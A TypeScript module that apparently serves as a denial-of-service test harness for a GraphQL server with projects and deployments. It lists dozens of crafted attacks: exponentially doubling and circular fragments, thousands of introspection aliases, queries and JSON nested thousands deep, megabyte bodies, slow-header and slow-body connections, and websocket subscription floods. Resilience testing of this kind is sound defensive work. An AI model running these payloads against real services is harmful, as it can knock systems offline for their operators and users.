import { randomBytes } from 'node:crypto'
import { setTimeout as sleep } from 'node:timers/promises'
import type WebSocket from 'ws'
import { drip, flood, sockets, type Sent, type Target } from './target.ts'

/** One way to stop the process with few bytes. */
export interface Attack {
  readonly name: string
  run(target: Target): Promise<void>
}

const times = (count: number, make: (n: number) => string, between = ' ') =>
  Array.from({ length: count }, (_, n) => make(n)).join(between)
const id = '01890000-0000-7000-8000-000000000000'
const ask = (query: string, variables: object = {}): string => JSON.stringify({ query, variables })
/** A document as it stands and, since one that was refused is remembered, with another comment each time. */
const anew = (query: string, n: number) => `${query}\n#${n} ${randomBytes(6).toString('hex')}`

/** Fragments that each spread the next one twice. */
const doubling = (levels: number, leaf: string) =>
  `{ projects { ...F0 } } ${times(levels, (n) => `fragment F${n} on ProjectsConnection { ${n + 1 < levels ? `...F${n + 1} ...F${n + 1}` : leaf} }`)}`

const TYPE = 'kind name fields { name args { name type { name ofType { name } } } type { name ofType { name } } }'
const LOGS = 'subscription ($id: UUID) { deploymentChanged(id: $id) { eventId type } }'
/** As much planning as one document may ask for. */
const FULL_PLAN = (n: number) =>
  `{ ${times(18, (i) => `a${i}: projects(first: 1, offset: ${n % 50}) { nodes { id name } }`)} }`
/** As many values as one document may ask for. */
const FULL_COST =
  '{ projects(first: 20) { nodes { deployments(first: 90) { nodes { id status commitSha ref version createdAt updatedAt branch } } } } }'

/** Documents: sent over HTTP by somebody who is signed in, over HTTP by nobody, and over a websocket. */
const documents: Record<string, (n: number) => string> = {
  'fragments that double, 24 levels': (n) => ask(anew(doubling(24, 'totalCount'), n)),
  'fragments that double, 24 levels, rows': (n) => ask(anew(doubling(24, 'nodes { id }'), n)),
  'fragments that double, 150 levels': (n) => ask(anew(doubling(150, 'nodes { id }'), n)),
  'fragments in a circle': (n) =>
    ask(
      anew(
        `{ ...F0 } ${times(100, (i) => `fragment F${i} on Query { ...F${(i + 1) % 100} ...F${(i * 7) % 100} }`)}`,
        n,
      ),
    ),
  '900 aliases of __schema': (n) => ask(anew(`{ ${times(600, (i) => `a${i}: __schema { types { ${TYPE} } }`)} }`, n)),
  '300 aliases of __type': (n) => ask(anew(`{ ${times(300, (i) => `a${i}: __type(name: "Query") { ${TYPE} }`)} }`, n)),
  'introspection that goes in circles': (n) =>
    ask(anew(`{ __schema { types { ${'fields { type { '.repeat(12)} name ${'} }'.repeat(12)} } } }`, n)),
  'a new introspection each time': (n) => ask(anew(`{ __schema { types { ${TYPE} } } }`, n)),
  '120 aliases of node': (n) => ask(anew(`{ ${times(120, (i) => `a${i}: node(nodeId: "x") { nodeId }`)} }`, n)),
  'node, 33 types under each of 3': (n) =>
    ask(anew(`{ ${times(3, (i) => `a${i}: node(nodeId: "x") { nodeId }`)} }`, n)),
  '330 root fields': (n) => ask(anew(`{ ${times(330, (i) => `a${i}: projects { nodes { id } }`)} }`, n)),
  '330 root fields behind fragments': (n) =>
    ask(
      anew(
        `{ ${times(33, (i) => `...F${i}`)} } ${times(33, (f) => `fragment F${f} on Query { ${times(10, (i) => `a${f}_${i}: projects { nodes { id } }`)} }`)}`,
        n,
      ),
    ),
  'as much planning as is allowed, anew each time': (n) => ask(anew(FULL_PLAN(n), n)),
  'a small new document each time': (n) => ask(anew('{ currentUser { username } }', n)),
  'fields 400 deep': (n) => ask(anew(`${'{ projects { nodes '.repeat(200)}{ id }${'} }'.repeat(200)}`, n)),
  'inline fragments 2 000 deep': (n) => ask(anew(`${'{ ... '.repeat(2000)}{ __typename }${'}'.repeat(2000)}`, n)),
  'braces that never close': (n) => ask(anew('{a'.repeat(7000), n)),
  'a list literal 7 000 deep': (n) =>
    ask(anew(`{ projects(filter: ${'['.repeat(7000)}${']'.repeat(7000)}) { totalCount } }`, n)),
  'a filter literal 1 500 deep': (n) =>
    ask(anew(`{ projects(filter: ${'{not: '.repeat(1500)}{}${'}'.repeat(1500)}) { totalCount } }`, n)),
  '8 000 times one field': (n) => ask(anew(`{ projects { ${'totalCount '.repeat(5000)} } }`, n)),
  'fields that merge in pairs of pairs': (n) => {
    const level = (depth: number): string => (depth === 0 ? 'id' : `${`node { ${level(depth - 1)} } `.repeat(2)}`)
    return ask(anew(`{ projects { edges { ${level(8)} } } }`, n))
  },
  '64 KiB of comment, anew each time': (n) => ask(`{ __typename }#${'x'.repeat(65_000)}${n}`),
  'a document of 900 KB': (n) => ask(`{ __typename }#${'x'.repeat(900_000)}${n}`),
  '1 000 operations': (n) =>
    ask(
      anew(
        times(1000, (i) => `query Q${i} { projects { totalCount } }`),
        n,
      ),
    ),
  '1 000 fragments, all spread': (n) =>
    ask(
      anew(`{ ${times(1000, (i) => `...F${i}`)} } ${times(1000, (i) => `fragment F${i} on Query { __typename }`)}`, n),
    ),
  '150 fragments that spread each other': (n) =>
    ask(
      anew(
        `{ ...F0 } ${times(150, (i) => `fragment F${i} on Query { ${i < 149 ? times(149 - i, (j) => `...F${i + j + 1}`) : '__typename'} }`)}`.slice(
          0,
          65_000,
        ),
        n,
      ),
    ),
  '2 000 variables': (n) => ask(anew(`query (${times(2000, (i) => `$v${i}: Int`)}) { __typename }`, n)),
  '3 000 directives': (n) => ask(anew(`{ __typename ${'@include(if: true) '.repeat(2000)} }`, n)),
  'names that are not in the schema': (n) =>
    ask(anew(`{ ${times(900, (i) => `deploymenst${i}`)} }`.slice(0, 60_000), n)),
  'types that are not in the schema': (n) =>
    ask(anew(`query (${times(90, (i) => `$v${i}: DeploymentFiltre${i}`)}) { __typename }`, n)),
  'a string of 60 KB': (n) => ask(anew(`{ projectBySlug(slug: "${'x'.repeat(60_000)}") { id } }`, n)),
  'a filter of 20 000 alternatives': () =>
    ask('query ($f: ProjectFilter) { projects(filter: $f) { totalCount } }', {
      f: { or: Array.from({ length: 20_000 }, () => ({ name: { equalTo: 'x' } })) },
    }),
  'a filter that says not 20 000 times': () =>
    `{"query":"query ($f: ProjectFilter) { projects(filter: $f) { totalCount } }","variables":{"f":${'{"not":'.repeat(20_000)}{}${'}'.repeat(20_000)}}}`,
  'one filter in 20 places': () =>
    ask(`query ($f: ProjectFilter) { ${times(15, (i) => `a${i}: projects(first: 1, filter: $f) { nodes { id } }`)} }`, {
      f: { or: Array.from({ length: 90 }, () => ({ name: { equalTo: 'x' } })) },
    }),
  'a list of 80 000 values': () =>
    ask('query ($f: ProjectFilter) { projects(filter: $f) { totalCount } }', {
      f: { name: { in: Array.from({ length: 80_000 }, (_, i) => `v${i}`) } },
    }),
  'variables 400 000 deep': () =>
    `{"query":"{ __typename }","variables":{"v":${'['.repeat(400_000)}${']'.repeat(400_000)}}}`,
  '100 000 variables': () =>
    ask('{ __typename }', Object.fromEntries(Array.from({ length: 60_000 }, (_, i) => [`v${i}`, i]))),
  'fields that an input does not have': () =>
    ask('query ($f: ProjectFilter) { projects(filter: $f) { totalCount } }', {
      f: Object.fromEntries(Array.from({ length: 9000 }, (_, i) => [`no${i}`, { x: 1 }])),
    }),
  'orders by the thousand': () =>
    ask('query ($o: [ProjectOrderBy!]) { projects(orderBy: $o) { totalCount } }', { o: Array(9000).fill('NAME_ASC') }),
  'large pages in variables': () =>
    ask(
      'query ($n: Int) { projects(first: $n) { nodes { deployments(first: $n) { nodes { logs(first: $n) { nodes { id message } } } } } } }',
      { n: 100 },
    ),
  'many plans of one document': (n) =>
    ask(
      `query (${times(12, (i) => `$b${i}: Boolean!`)}) { projects { nodes { ${times(12, (i) => `f${i}: name @include(if: $b${i})`)} id } } }`,
      Object.fromEntries(Array.from({ length: 12 }, (_, i) => [`b${i}`, (n >> i) % 2 === 1])),
    ),
  'a subscription by POST': () => ask(LOGS, { id }),
}

/** Bodies that are no documents. */
const bodies: Record<string, (n: number) => Sent> = {
  'a name of an operation of 900 KB': () => ({
    body: JSON.stringify({ query: 'query A { __typename }', operationName: 'x'.repeat(900_000) }),
  }),
  'a megabyte that is not JSON': () => ({ body: '['.repeat(1_000_000) }),
  'JSON 500 000 deep': () => ({ body: '['.repeat(500_000) + ']'.repeat(500_000) }),
  'tokens that are made up': (n) => ({
    body: '{"query":"{ __typename }"}',
    isAnonymous: true,
    headers: { authorization: `Bearer made-up-${n}` },
  }),
  'the largest answer, over and over': () => ({ body: ask(FULL_COST) }),
}

const OVER_SOCKETS = [
  '330 root fields',
  '120 aliases of node',
  'fragments that double, 24 levels, rows',
  'a filter that says not 20 000 times',
  'a small new document each time',
]
const BY_NOBODY = [
  '900 aliases of __schema',
  '120 aliases of node',
  '330 root fields',
  'a small new document each time',
]

/** `payload` is JSON as it is sent; some of it is too deep to be read here. */
function subscribe(socket: WebSocket, payload: string, key: number): void {
  if (socket.readyState === socket.OPEN) socket.send(`{"id":"${key}","type":"subscribe","payload":${payload}}`)
}

async function whileOpen(socket: WebSocket, act: (n: number) => void): Promise<void> {
  for (let n = 0; socket.readyState === socket.OPEN; n++) {
    act(n)
    await sleep(15)
  }
}

export const attacks: readonly Attack[] = [
  ...Object.entries(documents).map(([name, make]) => ({
    name,
    run: (target: Target) => {
      const prepared = Array.from({ length: 50 }, (_, n) => make(n))
      return flood(target, (n) => ({ body: prepared[n % 50]! }))
    },
  })),
  ...Object.entries(bodies).map(([name, make]) => ({ name, run: (target: Target) => flood(target, make) })),
  ...BY_NOBODY.map((name) => ({
    name: `${name}, by nobody`,
    run: (target: Target) => flood(target, (n) => ({ body: documents[name]!(n), isAnonymous: true })),
  })),
  ...OVER_SOCKETS.map((name) => ({
    name: `${name}, over a socket`,
    run: (target: Target) =>
      sockets(target, { count: 4 }, (socket) => whileOpen(socket, (n) => subscribe(socket, documents[name]!(n), n))),
  })),
  { name: 'slow bodies', run: (target) => drip(target, 200, SLOW('Content-Length: 100000\r\n\r\n{"query":')) },
  { name: 'slow heads', run: (target) => drip(target, 200, SLOW('X-Slow: ')) },
  { name: 'connections that say nothing', run: (target) => drip(target, 300, '') },
  { name: 'sockets without init', run: (target) => sockets(target, { count: 150, init: false }, () => {}) },
  { name: 'sockets that come and go', run: (target) => sockets(target, { count: 20 }, (socket) => socket.terminate()) },
  {
    name: '1 000 subscriptions',
    run: (target) =>
      sockets(target, { count: 10 }, (socket) => {
        for (let n = 0; n < 100; n++) subscribe(socket, ask(LOGS), n)
      }),
  },
  {
    name: 'subscriptions that come and go',
    run: (target) =>
      sockets(target, { count: 4 }, (socket) =>
        whileOpen(socket, (n) => {
          subscribe(socket, ask(LOGS), n)
          socket.send(JSON.stringify({ id: String(n), type: 'complete' }))
        }),
      ),
  },
  {
    name: 'messages of a megabyte',
    run: (target) => {
      const message = JSON.stringify({ id: '1', type: 'subscribe', payload: { query: `#${'x'.repeat(1_000_000)}` } })
      return sockets(target, { count: 4 }, (socket) => whileOpen(socket, () => socket.send(message)))
    },
  },
  {
    name: 'pings by the thousand',
    run: (target) =>
      sockets(target, { count: 4 }, (socket) =>
        whileOpen(socket, () => {
          for (let n = 0; n < 100; n++) socket.send('{"type":"ping"}')
        }),
      ),
  },
  {
    name: 'messages that are none',
    run: (target) => sockets(target, { count: 8 }, (socket) => socket.send('{"type":"nothing"}')),
  },
  {
    name: 'init twice',
    run: (target) => sockets(target, { count: 8 }, (socket) => socket.send('{"type":"connection_init"}')),
  },
]

function SLOW(rest: string): string {
  return `POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n${rest}`
}
